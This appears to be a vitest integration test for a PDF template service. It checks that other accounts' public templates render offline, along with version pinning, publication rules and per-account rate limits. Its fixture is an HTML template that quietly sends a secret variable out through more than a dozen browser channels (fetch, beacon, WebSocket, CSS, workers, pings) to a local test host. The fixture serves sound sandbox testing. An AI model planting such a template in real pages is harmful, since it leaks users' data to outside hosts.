/**
 * Strangers' templates cannot hurt anyone (issue 21), over HTTP against the local stack:
 *
 * - B's render of A's public template runs offline: with a loopback host made reachable as "the
 *   internet" by the stack's test allowance, B's variables reach it through none of a page's
 *   channels, while A's own render of the same template does;
 * - such a render must name template_version (422 VALIDATION_ERROR naming it otherwise);
 * - publishing publishes from then on: versions from before stay A's alone (404 to B);
 * - template writes are rate-limited per account.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { TEMPLATE_WRITES_PER_MINUTE } from '../../functions/settings.js';
import { templateSchema } from '../../functions/templates/routes.js';
import { useLocalStack } from '../helpers/local-stack.js';
import { useReachableHost } from '../helpers/reachable-host.js';
import { newAccount, saveTemplate, type TestAccount } from '../helpers/template-fixtures.js';

/** What reached "the internet": request paths, and WebSocket upgrades. */
const seen: string[] = [];
const host = useReachableHost((req, res) => {
  seen.push(req.url ?? '');
  if ((req.url ?? '').includes('/sse')) {
    res.writeHead(200, { 'content-type': 'text/event-stream', 'access-control-allow-origin': '*' });
    res.write('data: hi\n\n');
    return;
  }
  res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
});
const local = useLocalStack({ env: host.env });

let owner: TestAccount;
let other: TestAccount;
beforeAll(async () => {
  [owner, other] = await Promise.all([newAccount(local, 'tpl-owner'), newAccount(local, 'tpl-other')]);
});

/** A template whose page sends `secret` out through many channels, each named in its path. */
const exfiltrating = (hostPort: string): string => {
  const h = `http://${hostPort}/{{ run }}`;
  return `<!doctype html><html><head>
    <link rel="stylesheet" href="${h}/stylesheet?d={{ secret }}">
    <style>@import url("${h}/import?d={{ secret }}");
      @font-face { font-family: probe; src: url("${h}/font-face?d={{ secret }}"); }
      .f { font-family: probe } .bg { background: url("${h}/css-background?d={{ secret }}"); width: 9px; height: 9px }</style>
    <link rel="prefetch" href="${h}/prefetch?d={{ secret }}">
    <link rel="preload" as="image" href="${h}/preload?d={{ secret }}">
    <script async src="${h}/script?d={{ secret }}"></script>
  </head><body>
    <p class="f">Dear {{ secret }}</p><div class="bg"></div>
    <img src="${h}/img?d={{ secret }}">
    <iframe src="${h}/iframe?d={{ secret }}"></iframe>
    <object data="${h}/object?d={{ secret }}"></object>
    <video src="${h}/video?d={{ secret }}"></video>
    <svg width="9" height="9"><image href="${h}/svg-image?d={{ secret }}" width="9" height="9"/></svg>
    <script>
      const h = '${h}', d = '{{ secret }}';
      const quietly = (f) => { try { const p = f(); if (p && p.catch) p.catch(() => {}); } catch {} };
      quietly(() => fetch(h + '/fetch-get?d=' + d));
      quietly(() => fetch(h + '/fetch-post', { method: 'POST', body: d }));
      quietly(() => { const x = new XMLHttpRequest(); x.open('GET', h + '/xhr?d=' + d); x.send(); });
      quietly(() => navigator.sendBeacon(h + '/beacon', d));
      quietly(() => new WebSocket(h.replace('http:', 'ws:') + '/websocket?d=' + d));
      quietly(() => new EventSource(h + '/sse?d=' + d));
      quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + h + "/worker-fetch?d=" + d + "').catch(() => {})"]))));
      quietly(() => { const a = document.createElement('a'); a.href = h + '/ping-target'; a.ping = h + '/ping?d=' + d; document.body.append(a); a.click(); });
      setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<i id="done"></i>'), 1500);
    </script>
  </body></html>`;
};

const render = (token: string, body: Record<string, unknown>) =>
  local.api('/v1/pdf', { method: 'POST', token, body });

describe("another account's template", () => {
  it('renders offline: the owner’s render reaches the host, a stranger’s through no channel', async () => {
    const template = await saveTemplate(local, owner.session, {
      html: exfiltrating(host.hostPort),
      is_public: true,
    });
    expect(template).toMatchObject({ renders_offline_for_others: true, public_since_version: 1 });
    const page_load = { wait_for_selector: '#done', timeout_ms: 15_000 };

    seen.length = 0;
    const own = await render(owner.session, {
      template_id: template.id,
      variables: { run: 'owner', secret: 'owner-data' },
      page_load,
    });
    expect(own.status, own.text).toBe(201);
    const reached = seen.filter((p) => p.startsWith('/owner/')).map((p) => p.slice(7).replace(/\?.*/, ''));
    expect(reached).toEqual(
      expect.arrayContaining([
        'img',
        'css-background',
        'fetch-get',
        'fetch-post',
        'xhr',
        'websocket',
        'sse',
        'worker-fetch',
        'iframe',
        'beacon',
      ]),
    );

    seen.length = 0;
    const theirs = await render(other.session, {
      template_id: template.id,
      template_version: 1,
      variables: { run: 'stranger', secret: 'stranger-data' },
      page_load,
    });
    expect(theirs.status, theirs.text).toBe(201);
    await new Promise((resolve) => setTimeout(resolve, 1_000)); // stragglers: a ping, a beacon
    expect(seen).toEqual([]);
    expect(JSON.stringify(theirs.json.diagnostics)).toContain('blocked: offline');
  });

  it('must be rendered at a named version: 422 VALIDATION_ERROR naming template_version', async () => {
    const template = await saveTemplate(local, owner.session, {
      html: '<p>Hi {{ who }}</p>',
      is_public: true,
    });
    const res = await render(other.session, { template_id: template.id, variables: { who: 'B' } });
    expect(res.status, res.text).toBe(422);
    expect(res.json.error.code).toBe('VALIDATION_ERROR');
    expect(res.json.error.details).toEqual([expect.objectContaining({ field: 'template_version' })]);
    // The owner need not name one, and the stranger may once they do.
    expect((await render(owner.session, { template_id: template.id, variables: { who: 'A' } })).status).toBe(
      201,
    );
    const pinned = await render(other.session, {
      template_id: template.id,
      template_version: template.version,
      variables: { who: 'B' },
    });
    expect(pinned.status, pinned.text).toBe(201);
  });

  it('publishes from publication on: earlier versions answer 404 to others, and stay the owner’s', async () => {
    const draft = await saveTemplate(local, owner.session, { html: '<p>draft with SECRET-123 {{ x }}</p>' });
    expect(draft).toMatchObject({ is_public: false, public_since_version: null });
    const edited = await local.api(`/v1/templates/${draft.id}`, {
      method: 'PATCH',
      token: owner.session,
      body: { html: '<p>clean {{ x }}</p>' },
    });
    expect(edited.status, edited.text).toBe(200);
    const published = await local.api(`/v1/templates/${draft.id}/visibility`, {
      method: 'PATCH',
      token: owner.session,
      body: { is_public: true },
    });
    expect(published.status, published.text).toBe(200);
    expect(published.json).toMatchObject({
      version: 2,
      public_since_version: 2,
      renders_offline_for_others: true,
    });
    expect(() => templateSchema.strict().parse(published.json)).not.toThrow();

    const early = await render(other.session, {
      template_id: draft.id,
      template_version: 1,
      variables: { x: 1 },
    });
    expect(early.status, early.text).toBe(404);
    expect(early.json.error.code).toBe('PDF_TEMPLATE_NOT_FOUND');
    expect(early.text).not.toContain('SECRET-123');
    const current = await render(other.session, {
      template_id: draft.id,
      template_version: 2,
      variables: { x: 1 },
    });
    expect(current.status, current.text).toBe(201);
    const own = await render(owner.session, {
      template_id: draft.id,
      template_version: 1,
      variables: { x: 1 },
    });
    expect(own.status, own.text).toBe(201);

    // A version written after publication is public; made private and public again, only from then.
    await local.api(`/v1/templates/${draft.id}`, {
      method: 'PATCH',
      token: owner.session,
      body: { html: '<p>v3 {{ x }}</p>' },
    });
    const v3 = await render(other.session, {
      template_id: draft.id,
      template_version: 3,
      variables: { x: 1 },
    });
    expect(v3.status, v3.text).toBe(201);
    for (const is_public of [false, true]) {
      await local.api(`/v1/templates/${draft.id}/visibility`, {
        method: 'PATCH',
        token: owner.session,
        body: { is_public },
      });
    }
    const again = await local.api(`/v1/templates/${draft.id}`, { token: other.session });
    expect(again.json.public_since_version).toBe(3);
    const v2 = await render(other.session, {
      template_id: draft.id,
      template_version: 2,
      variables: { x: 1 },
    });
    expect(v2.status, v2.text).toBe(404);
  });
});

describe('template writes', () => {
  it(`are rate-limited per account: past ${TEMPLATE_WRITES_PER_MINUTE} a minute, 429 USAGE_LIMIT_EXCEEDED`, async () => {
    const writer = await local.sessionToken();
    // Twice the limit and one: at least the limit and one fall in one minute's window.
    const answers = [];
    for (let i = 0; i < 2 * TEMPLATE_WRITES_PER_MINUTE + 1; i += 10) {
      answers.push(
        ...(await Promise.all(
          Array.from({ length: 10 }, () =>
            // Valid writes: a refused one (422) is not counted in the window (issue 40).
            local.api('/v1/templates', {
              method: 'POST',
              token: writer,
              body: { name: 'w', html: '<p>w</p>' },
            }),
          ),
        )),
      );
    }
    const limited = answers.filter((r) => r.status === 429);
    expect(limited.length).toBeGreaterThan(0);
    expect(limited[0]?.json.error.code).toBe('USAGE_LIMIT_EXCEEDED');
    expect(limited[0]?.headers.get('ratelimit-limit')).toBe(String(TEMPLATE_WRITES_PER_MINUTE));
    // Another account writes meanwhile, and renders are counted apart.
    const elsewhere = await local.sessionToken();
    expect(
      (await local.api('/v1/templates', { method: 'POST', token: elsewhere, body: { name: '' } })).status,
    ).toBe(422);
    expect((await render(writer, { html: '<p>still renders</p>' })).status).toBe(201);
  });
});
